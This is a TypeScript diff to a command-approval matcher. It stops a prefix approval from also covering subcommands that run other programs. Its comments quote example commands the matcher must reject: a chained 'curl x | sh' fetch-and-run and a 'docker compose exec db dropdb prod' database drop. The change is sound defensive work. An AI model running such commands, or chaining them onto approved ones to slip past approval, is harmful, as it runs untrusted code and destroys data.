@@ -215,11 +215,16 @@ export function commandScope(command: string): CommandScope {
 /**
  * The `command` regular expression of a scoped approval: the exact command, or the prefix
  * followed by any number of plain words, so `npm test` never approves
- * `npm test && curl x | sh` (shell syntax is not a plain word).
+ * `npm test && curl x | sh` (shell syntax is not a plain word). None of those words may be a
+ * subcommand by which the program runs another (RUNNER_SUBCOMMANDS): approving
+ * `docker compose -f dev.yml ps` must not approve `docker compose exec db dropdb prod`.
  */
 export function commandScopePattern(scope: CommandScope): string {
   if (scope.type === 'exact') return `^${escapeRegExp(scope.command)}$`;
-  return `^${scope.words.map(escapeRegExp).join('[ \\t]+')}(?:[ \\t]+[${PLAIN_CHARS}]+)*$`;
+  const name = programName(scope.words[0]!);
+  const runs = Object.hasOwn(RUNNER_SUBCOMMANDS, name) ? RUNNER_SUBCOMMANDS[name]! : [];
+  const notRunner = runs.length > 0 ? `(?!(?:${runs.map(escapeRegExp).join('|')})(?:[ \\t]|$))` : '';
+  return `^${scope.words.map(escapeRegExp).join('[ \\t]+')}(?:[ \\t]+${notRunner}[${PLAIN_CHARS}]+)*$`;
 }
 
 /**
